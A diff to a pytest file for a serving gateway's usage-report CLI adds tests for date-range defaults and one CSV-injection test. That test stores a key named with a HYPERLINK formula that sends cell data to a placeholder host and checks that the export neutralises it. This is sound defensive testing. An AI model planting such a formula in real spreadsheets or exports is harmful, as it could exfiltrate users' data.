@@ -4,6 +4,8 @@ from Redis."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -11,12 +13,14 @@ import shlex
 import subprocess
 import sys
 from collections.abc import Iterator
+from datetime import date
 from pathlib import Path
 
 import pytest
 
 from serving import cli
 from serving.gateway.keys import SqliteKeyStore
+from serving.gateway.usage_ledger import report
 from serving.gateway.usage_ledger.redis_store import RedisUsageStore
 from serving.gateway.usage_ledger.sqlite_store import SqliteUsageStore
 from serving.gateway.usage_ledger.tally import Batch
@@ -45,8 +49,8 @@ def serving(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, s
 @pytest.mark.parametrize(
     ("flags", "message"),
     [
-        ([], "--from: is required (a UTC day, YYYY-MM-DD)"),
-        (["--from", "2026-03-01"], "--to: is required"),
+        (["--from", ""], "--from: '' is not a day (YYYY-MM-DD)"),
+        (["--from", "2999-01-01"], "--from: 2999-01-01 is after today ("),
         (["--from", "2026-02-30", "--to", "2026-03-01"], "--from: '2026-02-30' is not a day"),
         (["--from", "2026-03-02", "--to", "2026-03-01"], "--to: 2026-03-01 is before the first"),
         ([*DAYS, "--key", SECRET], "--key: is not a key id (e.g. key_5e01c9a7, or dev)"),
@@ -98,6 +102,60 @@ def test_the_sqlite_path_does_not_import_redis(tmp_path: Path) -> None:
         [sys.executable, "-c", probe], capture_output=True, text=True, check=True
     )
     assert result.stdout.splitlines()[-1] == "False"  # redis-py takes 0.2 s to import
+
+
+@run_async
+async def record_file(path: Path, batch: Batch) -> None:
+    store = SqliteUsageStore(path)
+    await store.write("test", 1, batch)
+    await store.close()
+
+
+def test_a_key_named_as_a_formula_is_text_in_the_csv(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """CSV injection (OWASP): the name a tenant's key was given reaches a spreadsheet as text."""
+    formula = '=HYPERLINK("http://x/?"&A1,"t")'
+    keys = SqliteKeyStore(tmp_path / "keys.db")
+    key_id = keys.create(formula)[0].key_id
+    keys.close()
+    record_file(tmp_path / "keys.db", {("2026-03-01", key_id, "qwen3-tiny"): [12, 30]})
+    code, out, _ = serving(
+        capsys, "usage", "report", *DAYS, "--format", "csv", "--keys-db", str(tmp_path / "keys.db")
+    )
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and len(rows) == 1
+    assert rows[0]["key_name"] == f"'{formula}"
+    assert [rows[0][n] for n in ("prompt_tokens", "completion_tokens", "total_tokens")] == [
+        "12", "30", "42",
+    ]  # fmt: skip
+
+
+def test_without_from_and_to_the_report_is_the_current_utc_month_so_far(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr(report, "utc_today", lambda: date(2026, 3, 17))
+    keys_db = str(tmp_path / "keys.db")
+    SqliteKeyStore(tmp_path / "keys.db").close()
+    days = ["2026-02-28", "2026-03-01", "2026-03-17", "2026-03-18"]
+    record_file(tmp_path / "keys.db", {(day, "dev", "qwen3-tiny"): [1, 1] for day in days})
+
+    def report_days(*flags: str) -> tuple[str, str, list[str]]:
+        code, out, err = serving(capsys, "usage", "report", *flags, "--format", "json")
+        assert code == 0, err
+        document = json.loads(out)
+        return document["from"], document["to"], [row["day"] for row in document["rows"]]
+
+    assert report_days("--keys-db", keys_db) == ("2026-03-01", "2026-03-17", days[1:3])
+    assert report_days("--keys-db", keys_db, "--from", "2026-02-28") == (
+        "2026-02-28", "2026-03-17", days[:3],
+    )  # fmt: skip
+    assert report_days("--keys-db", keys_db, "--to", "2026-02-28") == (
+        "2026-02-01", "2026-02-28", days[:1],
+    )  # fmt: skip
+    code, out, _ = serving(capsys, "usage", "report", "--keys-db", keys_db)
+    assert code == 0
+    assert out.splitlines()[0] == "usage from 2026-03-01 to 2026-03-17 (UTC), all keys"
 
 
 def page_commands() -> tuple[list[str], str, list[str]]:
